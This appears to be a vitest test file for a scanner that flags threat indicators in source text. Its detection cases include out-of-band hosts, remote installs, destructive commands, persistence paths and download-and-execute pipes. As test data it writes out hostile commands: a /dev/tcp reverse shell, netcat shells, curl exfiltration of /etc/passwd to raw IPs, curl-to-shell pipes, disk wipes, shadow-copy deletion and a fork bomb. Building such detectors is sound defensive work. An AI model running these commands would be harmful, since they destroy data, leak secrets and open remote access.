// Threat indicators found in string values: request-capture and out-of-band testing hosts.
import { describe, expect, it } from 'vitest'
import { indicatorsIn } from '../../src/scanning/indicators.ts'
import { FactSink, scanText } from '../../src/scanning/languages/source-file.ts'

const kinds = (value: string) => indicatorsIn(value).map((f) => f.kind)

describe('out-of-band and request-capture hosts', () => {
  it.each([
    'https://cd47846a-6478-4e78-bdb7-2b71e7a270a1.dnshook.site/',
    'https://abc123.requestrepo.com/x',
    'https://www.postb.in/1700000000000-123',
    'https://ptsv3.com/t/abc/post',
    'https://webhook-test.com/0123456789abcdef',
    'https://requestinspector.com/inspect/abc',
    'https://66c0dc0bba6f27ca9a57c4bf.mockapi.io/tron',
    'https://x.oastify.com/',
    'https://yojsvm7n.oast.cz/',
    'https://c59d3ab1.oast.pro/',
  ])('%s is an out-of-band host', (url) => {
    expect(kinds(url)).toContain('oast-host')
  })

  it('matches whole host names only', () => {
    expect(kinds('https://notdnshook.site/')).not.toContain('oast-host')
    expect(kinds('https://toast.com/menu')).not.toContain('oast-host')
    expect(kinds('https://requestrepo.com.example.org/')).not.toContain('oast-host')
  })
})

describe('installs from outside the registry', () => {
  it.each([
    'pip install git+https://github.com/u/second.git',
    'python3 -m pip install -q git+{url}',
    'pip3 install --user https://files.example.net/dist/second-1.0.tar.gz',
    'uv pip install "git+ssh://git@example.com/u/r.git"',
    'npm install github:u/second',
    'npm i --no-save https://cdn.example.net/second-1.0.0.tgz',
    'yarn add git+https://example.com/u/r.git',
  ])('%s is a remote install', (command) => {
    expect(kinds(command)).toContain('remote-install')
  })

  it.each(['pip install -r requirements.txt', 'pip install requests==2.31.0', 'pip install --index-url https://pypi.org/simple extra', 'npm install lodash', 'npm i -D typescript', 'pip install ./dist/pkg.tar.gz'])(
    '%s installs from an index or the package itself',
    (command) => {
      expect(kinds(command)).not.toContain('remote-install')
    },
  )
})

describe('anonymous file drops', () => {
  it.each(['https://filebin.net/73dsd8rx20iqw0sf/data.json', 'https://files.catbox.moe/abc123.zip', 'https://pixeldrain.com/api/file/AbCd', 'https://tmpfiles.org/dl/123/x.txt'])('%s is a paste or file drop', (url) => {
    expect(kinds(url)).toContain('paste-site')
  })
})

describe("a Telegram bot's token", () => {
  it('is a drop box, as a webhook URL is; other numbers with a colon are not', () => {
    expect(kinds('bot = Bot("1234567890:AAE_synthetic0token0for0the0tests0x")')).toContain('webhook')
    expect(kinds('1234567890:AAE_synthetic0token0for0the0tests0x_longer')).not.toContain('webhook')
    expect(kinds('12:AAE_synthetic0token0for0the0tests0x')).not.toContain('webhook')
    expect(kinds('sha256:AAE_synthetic0token0for0the0tests0x')).not.toContain('webhook')
  })
})

describe('raw addresses', () => {
  it('counts a bare public address a network tool is given, with or without a port', () => {
    expect(kinds('curl -F a=@/flag 114.115.142.57:10113')).toContain('raw-ip-url')
    expect(kinds('nc 203.0.113.7 4444 -e /bin/sh')).toContain('raw-ip-url')
    expect(kinds('wget -q -O- 198.51.100.20/x.sh')).toContain('raw-ip-url')
  })

  it('leaves private addresses, versions and text without a network tool alone', () => {
    expect(kinds('curl -s 127.0.0.1:8080/health')).not.toContain('raw-ip-url')
    expect(kinds('curl -s 192.168.1.10:8080/health')).not.toContain('raw-ip-url')
    expect(kinds('curl https://example.com/pkg-1.2.3.4.tar.gz')).not.toContain('raw-ip-url')
    expect(kinds('pinned to 114.115.142.57 by the resolver')).not.toContain('raw-ip-url')
  })
})

describe('destructive commands', () => {
  it.each(['poweroff', 'shutdown /s -f -t 0', 'sudo reboot', 'cd /; rm -rf --no-preserve-root /', 'rm -rf ~/*', 'rm -fr $HOME', 'vssadmin delete shadows /all /quiet', 'format C: /q', 'dd if=/dev/zero of=/dev/sda bs=1M', ':(){ :|:& };:'])('%s', (command) => {
    expect(kinds(command)).toContain('destructive-command')
  })

  it.each(['rm -rf build/ dist/', 'rm -rf /tmp/synthetic-cache', 'rm -rf ~/.cache/synthetic', 'register a shutdown_hook', "'{}'.format(x)", 'systemctl restart nginx', 'git reset --hard'])('not %s', (command) => {
    expect(kinds(command)).not.toContain('destructive-command')
  })
})

describe('places that start code again', () => {
  it.each([
    String.raw`C:\Users\u\AppData\Roaming\Microsoft\Windows\Start Menu\Programs\Startup\x.vbs`,
    '/Users/u/Library/LaunchAgents/com.example.agent.plist',
    "shortcut.Arguments = '--load-extension=C:\\Users\\u\\AppData\\Roaming\\Extension'",
  ])('%s', (value) => {
    expect(kinds(value)).toContain('persistence')
  })

  it.each(['/Users/u/Library/Preferences/x.plist', '--disable-extensions', 'Start Menu shortcut created'])('not %s', (value) => {
    expect(kinds(value)).not.toContain('persistence')
  })
})

describe('downloads piped into what runs them', () => {
  it.each([
    'curl -s https://get.example.net/s.sh | sh',
    'wget -qO- http://get.example.net/s.sh | sudo bash',
    'curl -s https://paste.example.net/raw/x | python3 > /dev/null 2>&1 &',
    'curl -sSL https://install.example.net | python -',
    'curl -sSL https://install.example.net | python - -y',
    'wget -O - https://get.example.net/x.pl | perl',
    "os.system('curl https://get.example.net/x.js | node')",
    'echo aW1wb3J0IG9z | base64 -d | python3',
    'curl https://cdn.example.net/a/build.py -o %TEMP%/start.pyw && py %TEMP%/start.pyw',
    'curl -sL -o /tmp/.x https://get.example.net/x; python3 /tmp/.x',
    'wget -q https://get.example.net/x.js -O ~/.cache/u.js && node ~/.cache/u.js',
    'curl -o payload.exe https://get.example.net/p && start payload.exe',
    'curl --output "C:\\Users\\Public\\u.ps1" https://get.example.net/u & powershell -ExecutionPolicy Bypass -File "C:\\Users\\Public\\u.ps1"',
  ])('%s', (command) => {
    expect(kinds(command)).toContain('shell-download')
  })

  it.each([
    'curl http://localhost:8000/api/v1/note/ | python -m json.tool',
    "curl -L \"$PR_INFO_URL\" | python -c 'import json, sys; print(json.load(sys.stdin))'",
    'curl -sS registry.example.org/event-stream | node pretty.js',
    'curl -s https://api.example.net/v1 | python3 format.py',
    'curl -s https://example.net/x | shasum',
    'curl -fsSL -o node.tar.gz https://nodejs.org/dist/node.tar.gz && tar xzf node.tar.gz',
    'wget https://example.net/data.csv -O data.csv && python3 load.py data.csv',
    'curl -o /tmp/sum.txt https://example.net/sum && sha256sum -c /tmp/sum.txt',
  ])('not %s', (command) => {
    expect(kinds(command)).not.toContain('shell-download')
  })
})

describe('text scanned in blocks of lines', () => {
  // Lines that carry indicators, including the kinds anchored at a line's edge and values judged whole.
  const carriers = [
    "fetch('https://discord.com/api/webhooks/1/abc', { body })",
    '.ssh/id_rsa',
    'rm -rf ~/*',
    'bash -i >& /dev/tcp/203.0.113.9/4444 0>&1',
    'powershell -executionpolicy bypass',
    '-file run.ps1',
    'x = "c59d3ab1.oast.pro"',
    'curl -s 198.51.100.20:8080 -d @/etc/passwd',
    'Buffer.from("aHR0cHM6Ly9leGFtcGxlLm9hc3RpZnkuY29tL3g=", "base64")',
    'aHR0cHM6Ly9leGFtcGxlLm9hc3RpZnkuY29tL3g=',
    `TVqQAAMAAAAEAAAA//8AALgA${'A'.repeat(200)}"); start(x)`,
    `4d5a9000${'00'.repeat(120)}`,
    'echo ok >> ~/.bashrc',
  ]
  const filler = ['function f(a, b) { return a + b }', '  const x = require("./y")', '', '}', 'if (x) { y() } else { z() }', '// a comment, with words.', 'ok']
  // a small deterministic generator, so a failure can be replayed
  let seed = 7
  const next = () => (seed = (seed * 1103515245 + 12345) % 2147483648) / 2147483648
  // rare carriers leave most blocks with one or none, so skipping a block is exercised too
  const source = (lines: number, rate: number) =>
    Array.from({ length: lines }, () => (next() < rate ? carriers[Math.floor(next() * carriers.length)]! : filler[Math.floor(next() * filler.length)]!)).join('\n')
  const found = (sink: FactSink) => sink.facts().indicators.map((i) => `${i.line}:${i.kind}:${i.value}`)

  it('finds what looking at every line alone finds, at the same lines', () => {
    // each carrier alone in a block of filler, then mixtures
    const alone = carriers.map((carrier) => [source(200, 0), carrier, source(200, 0)].join('\n'))
    const mixed = Array.from({ length: 12 }, (_, round) => source(3000, [0.001, 0.01, 0.08][round % 3]!))
    let finds = 0
    for (const text of [...alone, ...mixed]) {
      const oracle = new FactSink('a.js', 'shell', text)
      let offset = 0
      for (const line of text.split('\n')) {
        oracle.text(line, offset)
        offset += line.length + 1
      }
      const blocks = new FactSink('a.js', 'shell', text)
      scanText(blocks)
      expect(found(blocks)).toEqual(found(oracle))
      finds += found(oracle).length
    }
    expect(finds).toBeGreaterThan(carriers.length * 4)
  })

  it('looks at the whole of a long minified line, not just its end', () => {
    const minified = `${'var a=1;'.repeat(10_000)}fetch("https://discord.com/api/webhooks/1/abc");${'var b=2;'.repeat(10_000)}`
    const sink = new FactSink('bundle.js', 'shell', minified)
    scanText(sink)
    expect(sink.facts().indicators.map((i) => i.kind)).toContain('webhook')
  })
})
